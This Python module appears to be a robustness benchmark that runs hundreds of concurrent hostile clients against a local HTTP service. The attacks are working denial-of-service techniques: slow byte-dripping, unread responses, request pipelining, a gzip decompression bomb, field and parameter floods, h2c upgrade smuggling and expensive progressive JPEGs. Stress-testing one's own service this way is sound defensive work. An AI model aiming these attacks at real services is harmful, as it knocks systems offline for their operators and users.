"""Clients that mean harm, all at once: `python -m benchmarks.attack.attackers PORT JOB SECONDS`.

Those with a key read it from `ATTACKER_KEY`. What the service answers is of no interest to them;
a connection that is refused or ended is opened again.
"""

import asyncio
import io
import os
import random
import sys
import zlib
from collections.abc import Awaitable, Callable
from contextlib import suppress
from dataclasses import dataclass

import numpy as np
from PIL import Image

_PAUSE_S = 0.5
_CONNECT_S = 5.0


@dataclass(frozen=True)
class Target:
    """A service, a key of the attacker's, and a job that belongs to the key."""

    port: int
    key: str
    job: str

    async def connect(self) -> tuple[asyncio.StreamReader, asyncio.StreamWriter]:
        """Open a connection that takes few bytes at a time."""
        opening = asyncio.open_connection("127.0.0.1", self.port, limit=4096)
        return await asyncio.wait_for(opening, _CONNECT_S)

    def request(self, line: str, *headers: str, body: bytes = b"", with_key: bool = True) -> bytes:
        """Spell a request."""
        lines = [f"{line} HTTP/1.1", "Host: 127.0.0.1", *headers]
        if with_key:
            lines.append(f"Authorization: Bearer {self.key}")
        if body:
            lines.append(f"Content-Length: {len(body)}")
        return "\r\n".join([*lines, "", ""]).encode() + body


async def read_nothing(target: Target) -> None:
    """Ask for a large answer and leave it unread."""
    await _leave_unread(target, "/openapi.json")


async def read_no_result(target: Target) -> None:
    """Ask for a finished painting and leave it unread."""
    await _leave_unread(target, f"/jobs/{target.job}/result")


async def pipeline(target: Target) -> None:
    """Send thousands of requests without reading an answer."""
    _, writer = await target.connect()
    writer.write(target.request("GET /openapi.json", with_key=False))
    writer.write(target.request("GET /", with_key=False) * 5000)
    await _hold(writer, 30)


async def stall_unfolding(target: Target) -> None:
    """Send 100 kB that unfold to 100 MB, and then nothing more."""
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    packed = b"".join(packer.compress(bytes(1_000_000)) for _ in range(99))
    packed += packer.flush(zlib.Z_SYNC_FLUSH)
    _, writer = await target.connect()
    head = target.request(
        "POST /v2/models/mnist/infer",
        "Content-Encoding: gzip",
        f"Content-Length: {len(packed) + 1000}",
    )
    writer.write(head + packed)
    await _hold(writer, 30)


async def follow_events(target: Target) -> None:
    """Hold a stream of events open."""
    _, writer = await target.connect()
    writer.write(target.request(f"GET /jobs/{target.job}/events"))
    await _hold(writer, 120)


async def drip_session(target: Target) -> None:
    """Send the body of a sign-in a byte at a time."""
    _, writer = await target.connect()
    headers = ("Content-Type: application/json", "Content-Length: 900")
    writer.write(target.request("POST /session", *headers, with_key=False) + b"{")
    for _ in range(100):
        await asyncio.sleep(1)
        writer.write(b" ")
        await writer.drain()


async def send_many_fields(target: Target) -> None:
    """Sign in with thousands of fields that are not wanted."""
    body = b"{" + b",".join(b'"%x":0' % number for number in range(7200)) + b"}"
    headers = ("Content-Type: application/json",)
    await _ask(target, target.request("POST /session", *headers, body=body, with_key=False))


async def send_many_parameters(target: Target) -> None:
    """Put thousands of parameters into an address."""
    query = "&".join(f"{number:x}" for number in range(11_000))
    await _ask(target, target.request(f"GET /jobs?{query}"))


async def offer_upgrade(target: Target) -> None:
    """Hide a request behind the offer of another protocol."""
    hidden = target.request("GET /jobs", with_key=False)
    headers = ("Upgrade: h2c", "Connection: Upgrade", "Content-Type: text/plain")
    await _ask(target, target.request("POST /classify", *headers, body=hidden * 50))


async def send_scans(target: Target) -> None:
    """Have a picture decoded that costs far more than its size says."""
    boundary = "b" * 20
    part = f'--{boundary}\r\nContent-Disposition: form-data; name="file"; filename="a.jpg"\r\n\r\n'
    body = part.encode() + _PROGRESSIVE + f"\r\n--{boundary}--\r\n".encode()
    header = f"Content-Type: multipart/form-data; boundary={boundary}"
    await _ask(target, target.request("POST /classify?model=mnist", header, body=body))


def _progressive() -> bytes:
    noise = np.random.default_rng(0).integers(0, 256, (600, 600, 3), dtype=np.uint8)
    buffer = io.BytesIO()
    picture = Image.fromarray(noise).resize((3000, 3000))
    picture.save(buffer, "JPEG", progressive=True, quality=40)
    return buffer.getvalue()


_PROGRESSIVE = _progressive()

ATTACKS: dict[Callable[[Target], Awaitable[None]], int] = {
    read_nothing: 40,
    read_no_result: 60,
    pipeline: 40,
    stall_unfolding: 6,
    follow_events: 960,
    drip_session: 300,
    send_many_fields: 6,
    send_many_parameters: 2,
    offer_upgrade: 2,
    send_scans: 4,
}
"""How many clients attack in each way."""


async def _leave_unread(target: Target, path: str) -> None:
    _, writer = await target.connect()
    writer.write(target.request(f"GET {path}"))
    await _hold(writer, 60)


async def _hold(writer: asyncio.StreamWriter, seconds: float) -> None:
    """Keep a connection open without reading, until it is ended or the time is over."""
    try:
        await asyncio.wait_for(writer.wait_closed(), seconds)
    except TimeoutError:
        writer.transport.abort()


async def _ask(target: Target, request: bytes) -> None:
    reader, writer = await target.connect()
    try:
        writer.write(request)
        await asyncio.wait_for(reader.read(4096), 30)
    finally:
        writer.transport.abort()


async def _attack_for_ever(attack: Callable[[Target], Awaitable[None]], target: Target) -> None:
    while True:
        with suppress(OSError, TimeoutError, asyncio.IncompleteReadError):
            await attack(target)
        await asyncio.sleep(_PAUSE_S * (0.5 + random.random()))  # noqa: S311


async def _attack_all(target: Target, seconds: float) -> None:
    tasks = [
        asyncio.create_task(_attack_for_ever(attack, target))
        for attack, clients in ATTACKS.items()
        for _ in range(clients)
    ]
    await asyncio.sleep(seconds)
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)


if __name__ == "__main__":
    _port, _job, _seconds = sys.argv[1:]
    asyncio.run(_attack_all(Target(int(_port), os.environ["ATTACKER_KEY"], _job), float(_seconds)))
